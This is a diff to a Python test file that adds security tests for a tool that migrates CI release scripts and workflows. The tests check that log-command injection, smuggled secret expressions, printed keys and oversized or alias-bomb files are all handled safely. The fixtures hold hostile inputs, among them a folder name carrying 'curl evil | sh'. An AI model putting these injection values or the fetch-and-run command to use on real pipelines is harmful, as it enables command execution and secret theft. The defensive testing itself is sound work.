@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 import re
 import subprocess
@@ -307,6 +308,73 @@ def test_what_stands_around_an_upload_stays_there() -> None:
     assert name == "x\n- y"
 
 
+@pytest.mark.threat(
+    "committer", "writes a setting that turns into YAML or a terminal command in what `uploader migrate` prints"
+)
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (WORKFLOW, workflow('- working-directory: "a\\n::error::x"\n  run: fastlane beta')),
+        (WORKFLOW, workflow(f"- uses: r0adkll/upload-google-play@v1\n  with: {{track: {json.dumps('a##[error]x')}}}")),
+        (WORKFLOW, workflow('- uses: r0adkll/upload-google-play@v1\n  name: "a\\n ::error::x"')),
+        (GITLAB, "::error::x:\n  script: [fastlane supply]\n  environment: {'::warning::x': y}"),
+        ("r.sh", "./gradlew publishBundle --from-track '##[error]x'"),
+        ("r.sh", 'google-play bundles publish -n \'[{"language": "en-US", "text": "a\\n::error::x"}]\''),
+        ("##[error]x.sh", "fastlane supply"),
+    ],
+)
+def test_nothing_commands_the_log_of_github(path: str, text: str) -> None:
+    """GitHub's log obeys `::` at the start of a line, blanks before it, and `##[` anywhere: neither is printed."""
+    try:
+        printed = migrated(Source(path, text, [], []))
+    except InputError as error:
+        printed = str(error)
+    assert not re.search(r"^\s*::|##\[", printed, re.MULTILINE)
+
+
+@pytest.mark.threat(
+    "committer",
+    "writes `${{ secrets.… }}` into a lane or a script, which would become an expression of the printed step",
+    rule="only a workflow may contain expressions; elsewhere a setting that contains one is left to the reader",
+)
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("Fastfile", "supply(aab: 'a.aab', track: '${{ secrets.OTHER }}')"),
+        ("Fastfile", 'supply(aab: "$\\{{ secrets.OTHER }}", track: "beta")'),
+        ("build.gradle", "play {\n track = '${{ secrets.OTHER }}'\n artifactDir = file('${{ secrets.OTHER }}')\n}"),
+        ("release.sh", "fastlane supply --aab a.aab --version_name '$''{{ secrets.OTHER }}'"),
+        ("release.sh", "cd '$''{{ secrets.OTHER }}'; fastlane supply --aab a.aab --json_key '$''{{ secrets.OTHER }}'"),
+    ],
+)
+def test_an_expression_is_taken_from_a_workflow_alone(path: str, text: str) -> None:
+    """A variable of the environment stays one; whatever else looks like an expression is named, and not an input."""
+    (step,) = as_written(migrated(Source(path, text, [], [])))
+    assert "OTHER" not in json.dumps(step)
+    assert step["with"].get("tracks", "production") in {"beta", "internal", "production"}
+
+
+@pytest.mark.threat("committer", "writes a key into a file that is migrated, and it is printed")
+@pytest.mark.parametrize("script", ["./gradlew publishBundle --from-track {}", "cd {}\nfastlane supply\nfastlane beta"])
+def test_no_key_is_printed_in_a_remark(script: str) -> None:
+    """Nor where a remark says what to write, or a folder stands before each path."""
+    key = base64.b64encode(KEY.encode() * 2).decode()
+    assert key[40:60] not in migrated(Source("release.sh", script.format(key), [], []))
+
+
+def test_what_a_lane_is_given_is_not_repeated() -> None:
+    """An option of a lane may hold anything."""
+    text = migrated(Source("release.sh", "fastlane supply\nfastlane android beta --token hunter2", [], []))
+    assert "fastlane android beta" in text
+    assert "hunter2" not in text
+
+
+def test_the_command_for_a_lane_can_be_pasted() -> None:
+    """A folder's name is one word of it, whatever it holds."""
+    text = migrated(Source("release.sh", "fastlane supply\ncd 'x; curl evil | sh'\nfastlane beta", [], []))
+    assert "`uploader migrate 'x; curl evil | sh/fastlane/Fastfile'`" in text
+
+
 LAUGHS = "a: &a [x]\n" + "".join(
     f"{after}: &{after} [{', '.join(['*' + before] * 9)}]\n"
     for before, after in zip("abcdefgh", "bcdefghi", strict=True)
@@ -333,6 +401,19 @@ HOSTILE = {
     "comment.gradle": "/*" * 130_000,
     "triple.gradle": '"""' * 87_000,
     "braces.gradle": "play {" + "{" * 260_000,
+    "expressions.sh": "${{" * 87_000,
+    "stand-ins.sh": f"echo ${{{{ {'a' * 100_000} }}}}\nfastlane supply --track " + "\ue0000\ue001" * 20_000,
+    "variables.yml": f"env: {{X: {'a' * 100_000}}}\nsteps:\n- run: fastlane supply --track " + "$X" * 70_000,
+    "variable.yml": f"env: {{X: {'a' * 100_000}}}\nsteps:\n" + "- run: fastlane supply --track @env:X\n" * 4000,
+    "names.Fastfile": f"b = '{'a' * 100_000}'\nsupply(aab: [" + "b," * 70_000 + "])",
+    "paths.sh": f"cd {'a' * 100_000}\nfastlane supply --aab " + "a," * 70_000,
+    "folders.sh": "cd a\n" * 52_000,
+    "same.yml": "w: &w\n"
+    + "".join(f"  a{number}: b\n" for number in range(10_000))
+    + "steps:\n"
+    + "- {uses: r0adkll/upload-google-play@v1, with: *w}\n" * 2500,
+    "same-run.yml": "w: &w |\n" + "  fastlan a b c d\n" * 8000 + "steps:\n" + "- run: *w\n" * 12_000,
+    "options.sh": "gradle " + "publishBundle " * 9000 + "--track " * 16_000,
     "dollars.kts": 'play {\n track = "' + "$rootDir" * 30_000 + '"\n}',
 }
 
@@ -340,12 +421,13 @@ HOSTILE = {
 @pytest.mark.threat(
     "committer",
     "writes a file that `uploader migrate` never finishes reading",
-    rule="at most 256 KiB are read, no alias is expanded, and no pattern tries a character again and again",
+    rule="at most 256 KiB are read, aliases may expand to 1 MiB, a name may stand for 200 characters, and no pattern "
+    "tries a character again and again",
 )
 @pytest.mark.parametrize("name", HOSTILE)
 def test_a_hostile_file_ends_soon(name: str) -> None:
     """A file made to cost time or memory ends as a result or as a mistake, in time that people wait."""
-    text = HOSTILE[name][: command.LARGEST]
+    text = HOSTILE[name].encode()[: command.LARGEST].decode(errors="ignore")
     began = time.process_time()
     try:
         printed = command.migrated(text, name, lambda _: False)
